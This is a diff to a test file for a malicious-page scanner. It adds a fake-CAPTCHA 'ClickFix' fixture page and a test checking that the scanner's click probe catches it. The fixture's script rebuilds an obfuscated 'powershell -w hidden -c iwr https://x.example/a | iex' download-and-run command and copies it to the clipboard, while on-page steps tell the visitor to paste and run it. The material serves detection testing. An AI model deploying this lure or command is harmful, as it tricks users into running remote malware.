@@ -28,6 +28,20 @@ const JS_ONLY_KIT = `<!doctype html><html><head><title>Loading</title></head><bo
   f.appendChild(u); f.appendChild(w); document.getElementById('app').appendChild(f);
 </script></body></html>`;
 
+/**
+ * A ClickFix page whose command exists only at click time (reversed pieces, nothing a static decoder
+ * reads as a shell command): the browser engine's click probe and clipboard recorder must catch it.
+ */
+const CLICKFIX_AT_CLICK = `<!doctype html><html><head><title>Just a moment</title></head><body>
+  <p>Verify you are human</p><div id="check" role="button">I'm not a robot</div>
+  <ol><li>Press Windows Button + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol>
+<script>
+  document.getElementById('check').addEventListener('click', function () {
+    var c = ['neddih w-', ' llehsrewop'].map(function (s) { return s.split('').reverse().join(''); }).reverse().join(' ');
+    navigator.clipboard.writeText(c + ' -c iwr https://x.example/a | iex');
+  });
+</script></body></html>`;
+
 describe('detection through the browser engine (real Chromium)', function () {
   this.timeout(90_000);
   let server: Server;
@@ -37,9 +51,9 @@ describe('detection through the browser engine (real Chromium)', function () {
   const logger = createLogger('rendered-detection-test', 'silent');
 
   before(async () => {
-    server = createServer((_req, res) => {
+    server = createServer((req, res) => {
       res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
-      res.end(JS_ONLY_KIT);
+      res.end(req.url === '/clickfix' ? CLICKFIX_AT_CLICK : JS_ONLY_KIT);
     });
     await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
     base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
@@ -83,5 +97,16 @@ describe('detection through the browser engine (real Chromium)', function () {
       { threatIntel: ThreatIntelIndex.empty(), rules },
     );
     assert.equal(plain.verdict, 'clean', JSON.stringify(plain.signals));
+  });
+
+  it('a ClickFix page that copies its command only when clicked: the click probe records the write, the verdict is clickfix', async () => {
+    const verdict = await scanWithBrowser(`${base}/clickfix`, {}, deps, undefined, 30_000);
+    assert.equal(verdict.scanState, 'completed', JSON.stringify(verdict.reason));
+    const result = verdict.result as ScanResult;
+    const copied = result.signals.find((signal) => signal.id === 'clipboard-shell-command');
+    assert.match(copied?.evidence ?? '', /^clipboard: powershell\s+-w hidden -c iwr/, JSON.stringify(result.signals));
+    assert.equal(result.verdict, 'malicious');
+    assert.equal(result.categories[0], 'clickfix');
+    assert.ok(result.decidedBy?.includes('combo:clickfix'), String(result.decidedBy));
   });
 });
